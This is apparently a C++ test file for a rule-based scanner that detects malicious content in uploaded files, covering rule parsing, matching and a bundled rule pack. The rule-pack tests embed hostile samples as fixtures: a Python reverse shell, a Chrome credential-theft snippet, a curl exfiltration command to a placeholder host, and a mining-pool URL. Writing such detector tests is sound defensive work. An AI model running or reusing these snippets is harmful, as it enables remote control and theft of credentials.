#include <random>
#include <set>

#include "doctest.h"
#include "hubscan/rules/rules.hpp"
#include "rule_gen.hpp"
#include "test_support.hpp"

using namespace hubscan;
using namespace hubscan::rules;
namespace ts = testsupport;
using ts::brute;
using ts::Expr;
using ts::planted;
using ts::Planted;
using ts::random_expr;
using ts::render;

namespace {

Rule one(std::string_view text) {
  auto rules = parse_rules(text);
  REQUIRE(rules.size() == 1);
  return rules[0];
}

RuleErrorCode error_of(std::string_view text, SourceLoc* where = nullptr) {
  try {
    parse_rules(text);
  } catch (const RuleError& e) {
    if (where) *where = e.loc();
    return e.code();
  }
  FAIL("rule text was accepted: " << text);
  return RuleErrorCode::Syntax;
}

}  // namespace

TEST_CASE("parse_rules: reference examples") {
  auto r = one("rule a { meta: severity = \"low\" strings: $x = \"evil\" condition: any of them }");
  CHECK(r.name == "a");
  CHECK(r.strings.size() == 1);
  CHECK(r.condition.kind == Condition::AnyOf);
  CHECK(r.condition.set == std::vector<std::string>{"$x"});

  r = one(R"(rule b {
    meta:
      severity = "high"   // trailing comment
      score = 10
      enabled = true
    strings:
      $a = "one" $b = /t(w)o/i
      /* block
         comment */
      $c = { 74 68 ?? 65 }
    condition:
      2 of them
  })");
  CHECK(r.condition.kind == Condition::CountOf);
  CHECK(r.condition.count == 2);
  CHECK(r.condition.set.size() == 3);
  CHECK(r.meta.at("score") == "10");
  CHECK(r.meta.at("enabled") == "true");
  CHECK(r.strings[1].kind == PatternKind::Regex);
  CHECK(r.strings[1].nocase);
  REQUIRE(r.strings[2].hex.size() == 4);
  CHECK(r.strings[2].hex[2].mask == 0);
  CHECK(r.strings[2].loc.line == 10);

  r = one("rule c : t1 t2 { meta: severity = \"info\" strings: $p1 = \"x\\\"\\x41\\n\" $p2 = \"y\" $q = \"z\" "
          "condition: all of ($p*) and not $q }");
  CHECK(r.tags == std::vector<std::string>{"t1", "t2"});
  CHECK(r.strings[0].text == "x\"A\n");
  CHECK(r.condition.kind == Condition::And);
  CHECK(r.condition.kids[0].set == std::vector<std::string>{"$p1", "$p2"});
  CHECK(r.condition.kids[1].kind == Condition::Not);

  CHECK(parse_rules("// nothing\n").empty());
  CHECK(parse_rules("rule x { meta: severity = \"low\" condition: true } rule y { meta: severity = \"low\" "
                    "condition: false }")
            .size() == 2);
}

TEST_CASE("parse_rules: errors") {
  SourceLoc at;
  CHECK(error_of("rule r { meta: severity = \"low\" strings: $a = \"x\" condition: $z }", &at) ==
        RuleErrorCode::UndeclaredIdInCondition);
  CHECK(at == SourceLoc{1, 62});
  CHECK(error_of("rule r { meta: severity = \"low\" strings: $a = \"x\" condition: any of ($b*) }") ==
        RuleErrorCode::UndeclaredIdInCondition);
  CHECK(error_of("rule r { meta: severity = \"low\" strings: $a = \"x\" $a = \"y\" condition: $a }", &at) ==
        RuleErrorCode::DuplicateStringId);
  CHECK(at == SourceLoc{1, 51});
  CHECK(error_of("rule r { meta: severity = \"low\" strings: $a = /(unclosed/ condition: $a }") ==
        RuleErrorCode::RegexCompile);
  CHECK(error_of("rule r {\n  meta: severity = \"low\"\n  strings: $a = { 4A 4 }\n  condition: $a }", &at) ==
        RuleErrorCode::Syntax);
  CHECK(at.line == 3);
  CHECK(error_of("rule r { meta: severity = \"low\" strings: $a = { 4A 4B 4 } condition: $a }") ==
        RuleErrorCode::Syntax);
  CHECK(error_of("rule r { meta: severity = \"low\" strings: $a = { 4A [2] 4B } condition: $a }") ==
        RuleErrorCode::Syntax);
  CHECK(error_of("rule r { strings: $a = \"x\" condition: $a }") == RuleErrorCode::BadMeta);
  CHECK(error_of("rule r { meta: severity = \"severe\" condition: true }") == RuleErrorCode::BadMeta);
  CHECK(error_of("rule r { meta: severity = \"low\" condition: true } rule r { meta: severity = \"low\" "
                 "condition: true }") == RuleErrorCode::DuplicateRule);
  CHECK(error_of("rule r { meta: severity = \"low\" strings: $a = \"x\" wide condition: $a }") ==
        RuleErrorCode::Syntax);
  CHECK(error_of("rule r { meta: severity = \"low\" strings: $a = \"x\" condition: $a at 0 }") ==
        RuleErrorCode::Syntax);
  CHECK(error_of("rule r { meta: severity = \"low\" condition: true") == RuleErrorCode::Syntax);
  CHECK(error_of("rule and { meta: severity = \"low\" condition: true }") == RuleErrorCode::Syntax);
  CHECK(error_of("rule r { meta: severity = \"low\" strings: $a = \"x condition: $a }") == RuleErrorCode::Syntax);
  CHECK(error_of("/* open") == RuleErrorCode::Syntax);
}

TEST_CASE("match: reference examples") {
  const auto sh = one("rule sh { meta: severity = \"high\" strings: $a = \"/bin/sh\" condition: any of them }");
  const auto hit = match(sh, as_bytes("/bin/sh -i"), "t");
  REQUIRE(hit);
  CHECK(hit->matched.size() == 1);
  CHECK(hit->matched[0].offsets == std::vector<std::size_t>{0});
  CHECK(hit->target == "t");
  CHECK(hit->severity == Severity::High);
  CHECK(!match(sh, as_bytes("hello world")));

  const auto hex = one("rule g { meta: severity = \"low\" strings: $h = { 80 ?? 63 } condition: $h }");
  const std::string pickle("\x80\x02" "cos\nsystem\n", 12);
  const auto m = match(hex, as_bytes(pickle));
  REQUIRE(m);
  CHECK(m->matched[0].offsets == std::vector<std::size_t>{0});

  const auto nib = one("rule n { meta: severity = \"low\" strings: $h = { 6? 6? } condition: $h }");
  CHECK(find_occurrences(nib.strings[0], as_bytes("a1bc"), 100) == std::vector<std::size_t>{2});
}

TEST_CASE("match: text, nocase and overlapping occurrences") {
  const auto r = one("rule t { meta: severity = \"low\" strings: $a = \"aa\" $b = \"\\xC4ab\" nocase condition: "
                     "any of them }");
  CHECK(find_occurrences(r.strings[0], as_bytes("aaaa"), 100) == std::vector<std::size_t>{0, 1, 2});
  CHECK(find_occurrences(r.strings[0], as_bytes("aaaa"), 2) == std::vector<std::size_t>{0, 1});
  CHECK(find_occurrences(r.strings[1], as_bytes("x\xC4" "AB"), 100) == std::vector<std::size_t>{1});
  CHECK(find_occurrences(r.strings[1], as_bytes("x\xE4" "AB"), 100).empty());
  CHECK(find_occurrences(r.strings[1], as_bytes("\xC4"), 100).empty());

  const auto re = one("rule r { meta: severity = \"low\" strings: $a = /^ab/ $b = /a.c/ $c = /a.c/s $d = /\\bcat/ "
                      "condition: any of them }");
  CHECK(find_occurrences(re.strings[0], as_bytes("ab\nab"), 100) == std::vector<std::size_t>{0});
  CHECK(find_occurrences(re.strings[1], as_bytes("a\nc abc"), 100) == std::vector<std::size_t>{4});
  CHECK(find_occurrences(re.strings[2], as_bytes("a\nc abc"), 100) == std::vector<std::size_t>{0, 4});
  CHECK(find_occurrences(re.strings[3], as_bytes("cat concat cat"), 100) == std::vector<std::size_t>{0, 11});
  CHECK(!matches_at(re.strings[3], as_bytes("concat"), 3));
  CHECK(matches_at(re.strings[3], as_bytes("a cat"), 2));
  CHECK(!matches_at(re.strings[0], as_bytes("xab"), 1));
}

TEST_CASE("condition truth tables match brute-force evaluation") {
  std::mt19937 rng(20240917);
  int rules_checked = 0, rows = 0;
  std::set<bool> outcomes;
  for (int iter = 0; iter < 400; ++iter) {
    const int n = 1 + static_cast<int>(rng() % 4);
    std::vector<Planted> pats;
    std::string text = "rule tt { meta: severity = \"medium\" strings: ";
    for (int i = 0; i < n; ++i) {
      pats.push_back(planted(i, static_cast<int>(rng() % 4)));
      text += "$s" + std::to_string(i) + " = " + pats.back().decl + " ";
    }
    const auto expr = random_expr(rng, n, 3);
    text += "condition: " + render(expr) + " }";
    CAPTURE(text);
    const auto rule = one(text);
    for (unsigned mask = 0; mask < (1u << n); ++mask) {
      std::string data = "header ";
      for (int i = 0; i < n; ++i) {
        if (mask >> i & 1) data += pats[i].fragment + " | ";
      }
      const auto m = match(rule, as_bytes(data));
      const bool want = brute(expr, mask, n);
      CAPTURE(mask);
      CHECK(m.has_value() == want);
      outcomes.insert(want);
      if (m) {
        for (const auto& s : m->matched) {
          const auto& pat = *std::find_if(rule.strings.begin(), rule.strings.end(),
                                          [&](const auto& p) { return p.id == s.id; });
          for (auto off : s.offsets) CHECK(matches_at(pat, as_bytes(data), off));
        }
      }
      ++rows;
    }
    ++rules_checked;
  }
  CHECK(rules_checked == 400);
  CHECK(rows > 1500);
  CHECK(outcomes.size() == 2);
}

TEST_CASE("occurrences equal a brute-force positional scan") {
  std::mt19937 rng(99);
  const auto rule = one(R"(rule p { meta: severity = "low" strings:
      $t = "aba" $n = "AbA" nocase $h = { 61 ?? 61 } $r = /b[ab]+/
      condition: any of them })");
  for (int iter = 0; iter < 300; ++iter) {
    std::string data;
    const int len = static_cast<int>(rng() % 40);
    for (int i = 0; i < len; ++i) data.push_back("abAB\x80"[rng() % 5]);
    const auto bytes = as_bytes(data);
    for (const auto& p : rule.strings) {
      CAPTURE(p.id);
      CAPTURE(data);
      const auto found = find_occurrences(p, bytes, kMaxOffsetsPerString);
      for (auto off : found) CHECK(matches_at(p, bytes, off));
      if (p.kind == PatternKind::Regex) continue;
      std::vector<std::size_t> all;
      for (std::size_t i = 0; i <= data.size(); ++i) {
        if (matches_at(p, bytes, i)) all.push_back(i);
      }
      CHECK(found == all);
    }
  }
}

TEST_CASE("scan_targets order") {
  CHECK(scan_targets({}, {{"a", as_bytes("x")}}).empty());
  const auto rules = parse_rules(R"(
    rule r1 { meta: severity = "low" strings: $a = "x" condition: $a }
    rule r2 { meta: severity = "high" strings: $a = "y" condition: $a })");
  const auto hits = scan_targets(rules, {{"t1", as_bytes("xy")}, {"t2", as_bytes("x")}, {"t3", as_bytes("y")}});
  std::vector<std::pair<std::string, std::string>> order;
  for (const auto& h : hits) order.emplace_back(h.rule_name, h.target);
  CHECK(order == std::vector<std::pair<std::string, std::string>>{{"r1", "t1"}, {"r1", "t2"}, {"r2", "t1"}, {"r2", "t3"}});
}

TEST_CASE("bundled rule pack") {
  const auto pack = bundled_rule_pack();
  std::vector<std::string> names;
  for (const auto& r : pack.rules) names.push_back(r.name);
  CHECK(names == std::vector<std::string>{"base64_blob", "chrome_credentials", "crypto_miner", "exfil_webhook",
                                          "reverse_shell"});
  const auto disk = load_rule_pack(ts::data_dir() / ".." / ".." / "config" / "rules");
  CHECK(disk.hash == pack.hash);
  CHECK(pack.hash.size() == 64);

  const auto rule = [&](std::string_view name) -> const Rule& {
    return *std::find_if(pack.rules.begin(), pack.rules.end(), [&](const Rule& r) { return r.name == name; });
  };
  CHECK(rule("reverse_shell").taint_source_category() == "RemoteControl");
  CHECK(rule("exfil_webhook").taint_source_category().empty());

  const std::string case1 =
      "RHOST = \"example.invalid\"; RPORT = 4242\n"
      "import socket, os, pty\n"
      "s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n"
      "s.connect((RHOST, RPORT))\n"
      "[os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]\n"
      "pty.spawn(\"/bin/sh\")\n";
  auto hits = scan_targets(pack.rules, {{"case1", as_bytes(case1)}});
  REQUIRE(hits.size() == 1);
  CHECK(hits[0].rule_name == "reverse_shell");
  CHECK(hits[0].severity == Severity::Critical);

  const std::string case2 =
      "path = os.path.join(os.environ['LOCALAPPDATA'], 'Google', 'Chrome', 'User Data', 'Default', 'Login Data')\n"
      "key = win32crypt.CryptUnprotectData(master_key, None, None, None, 0)[1]\n"
      "sendToWebhook('https://example.invalid/hook', creds)\n";
  hits = scan_targets(pack.rules, {{"case2", as_bytes(case2)}});
  REQUIRE(hits.size() == 1);
  CHECK(hits[0].rule_name == "chrome_credentials");

  const std::string case3 =
      "info = subprocess.check_output(['uname', '-a'])\n"
      "os.system(\"curl -d '\" + info.decode() + \"' https://example.invalid/$(whoami)\")\n";
  hits = scan_targets(pack.rules, {{"case3", as_bytes(case3)}});
  REQUIRE(hits.size() == 1);
  CHECK(hits[0].rule_name == "exfil_webhook");

  CHECK(scan_targets(pack.rules, {{"x", as_bytes("import stratum\nurl = 'stratum+tcp://pool.example.invalid:3333'")}})
            .at(0)
            .rule_name == "crypto_miner");
  CHECK(scan_targets(pack.rules, {{"x", as_bytes(std::string(250, 'A') + "==")}}).at(0).rule_name == "base64_blob");
  CHECK(scan_targets(pack.rules, {{"x", as_bytes(std::string(150, 'A'))}}).empty());
  CHECK(scan_targets(pack.rules, {{"b", as_bytes("import datasets\nprint('loading https://example.invalid/data')\n")}})
            .empty());
}

TEST_CASE("rule pack hash") {
  CHECK(rule_pack_hash({}) == "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855");
  CHECK(rule_pack_hash({{"b.rules", "two"}, {"a.rules", "one"}}) ==
        "8bbcfaaf1957f1fb71d6f1d95037ae8259cf97de7634658604b3ac1f3ae1a5d1");
  try {
    build_rule_pack({{"a.rules", "rule x { meta: severity = \"low\" condition: true }"},
                     {"b.rules", "rule x { meta: severity = \"low\" condition: true }"}});
    FAIL("duplicate accepted");
  } catch (const Error& e) {
    CHECK(std::string(e.what()).find("b.rules") != std::string::npos);
  }
  try {
    build_rule_pack({{"bad.rules", "rule x {"}});
    FAIL("syntax error accepted");
  } catch (const RuleError& e) {
    CHECK(std::string(e.what()).find("bad.rules") != std::string::npos);
  }
}
